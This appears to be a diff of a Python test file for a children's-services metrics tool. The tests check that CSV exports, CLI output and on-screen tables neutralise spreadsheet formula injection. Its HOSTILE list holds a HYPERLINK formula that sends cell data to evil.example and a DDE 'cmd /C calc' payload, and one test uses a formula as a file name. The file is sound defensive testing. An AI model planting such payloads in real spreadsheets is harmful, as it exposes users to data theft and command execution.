@@ -1,5 +1,6 @@
 """CSV formula injection (OWASP): every CSV the product writes, and every table a user can export from the screen,
 carries text starting with = + - @ tab or CR as inert text; numbers stay numbers."""
+
 from __future__ import annotations
 
 import io
@@ -10,14 +11,21 @@ import pytest
 from streamlit.testing.v1 import AppTest
 from typer.testing import CliRunner
 
-from cscp_metrics.store import aggregates, connection as store
 from cscp_metrics.cli.main import app as cli
 from cscp_metrics.outputs.spreadsheet import safe_for_spreadsheet
+from cscp_metrics.store import aggregates
+from cscp_metrics.store import connection as store
 
 APP = str(Path(__file__).resolve().parent.parent / "app.py")
 
-HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-           "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -33,8 +41,7 @@ def _csv_cells(text: str) -> list[str]:
 
 @pytest.mark.parametrize("dtype", [object, "str", "string", "category"])
 def test_text_columns_are_made_inert_whatever_their_dtype(dtype):
-    frame = pd.DataFrame({"ward": pd.Series(HOSTILE + ["Kilburn"], dtype=dtype),
-                          "change": [-5, -0.5, 3, -1, 0, -2, 7]})
+    frame = pd.DataFrame({"ward": pd.Series(HOSTILE + ["Kilburn"], dtype=dtype), "change": [-5, -0.5, 3, -1, 0, -2, 7]})
     safe = safe_for_spreadsheet(frame)
     assert [str(v) for v in safe["ward"]] == ["'" + v for v in HOSTILE] + ["Kilburn"]
     assert safe["change"].tolist() == [-5, -0.5, 3, -1, 0, -2, 7]  # negative numbers stay numbers
@@ -52,8 +59,21 @@ def test_mixed_columns_keep_numbers_and_the_suppression_mark():
 def test_cli_challenge_list_csv_is_inert(tmp_path):
     db = tmp_path / "s.duckdb"
     for question in HOSTILE:
-        result = CliRunner().invoke(cli, ["challenge", "add", "--owner", "@Children and Families", "--db", str(db),
-                                          "--", "re_referral_rate", "2019-20", f"{question} why?"])
+        result = CliRunner().invoke(
+            cli,
+            [
+                "challenge",
+                "add",
+                "--owner",
+                "@Children and Families",
+                "--db",
+                str(db),
+                "--",
+                "re_referral_rate",
+                "2019-20",
+                f"{question} why?",
+            ],
+        )
         assert result.exit_code == 0, result.output
     result = CliRunner().invoke(cli, ["challenge", "list", "--format", "csv", "--db", str(db)])
     assert result.exit_code == 0, result.output
@@ -65,8 +85,10 @@ def test_cli_challenge_list_csv_is_inert(tmp_path):
 
 def test_cli_metric_csv_is_inert_and_keeps_the_figures(demo_copy):
     con = store.connect(demo_copy)
-    child = con.execute("SELECT child_id FROM referrals WHERE referral_date BETWEEN '2019-04-01' AND '2020-03-31' "
-                        "ORDER BY referral_id LIMIT 1").fetchone()[0]
+    child = con.execute(
+        "SELECT child_id FROM referrals WHERE referral_date BETWEEN '2019-04-01' AND '2020-03-31' "
+        "ORDER BY referral_id LIMIT 1"
+    ).fetchone()[0]
     con.execute("UPDATE children SET ward = ? WHERE child_id = ?", [HOSTILE[0], child])
     aggregates.build(con)
     con.close()
@@ -83,9 +105,29 @@ def test_tables_on_screen_export_inert_text(demo_copy, tmp_path, monkeypatch):
     must reach that table already made inert."""
     hostile_file = tmp_path / '=HYPERLINK("https:evil.example").csv'
     hostile_file.write_text("referral_id,child_id,referral_date,source\nX1,C000001,not-a-date,police\n")
-    assert CliRunner().invoke(cli, ["load", "--table", "referrals", "--db", str(demo_copy), str(hostile_file)]).exit_code == 1
-    assert CliRunner().invoke(cli, ["challenge", "add", "re_referral_rate", "2019-20", "+cmd|' /C calc'!A0 why?",
-                                    "--owner", "-Police", "--db", str(demo_copy)]).exit_code == 0
+    assert (
+        CliRunner().invoke(cli, ["load", "--table", "referrals", "--db", str(demo_copy), str(hostile_file)]).exit_code
+        == 1
+    )
+    assert (
+        CliRunner()
+        .invoke(
+            cli,
+            [
+                "challenge",
+                "add",
+                "re_referral_rate",
+                "2019-20",
+                "+cmd|' /C calc'!A0 why?",
+                "--owner",
+                "-Police",
+                "--db",
+                str(demo_copy),
+            ],
+        )
+        .exit_code
+        == 0
+    )
     monkeypatch.setenv("CSCP_DB", str(demo_copy))
     shown = []
     for page in ("data", "where-to-look", "definitions"):
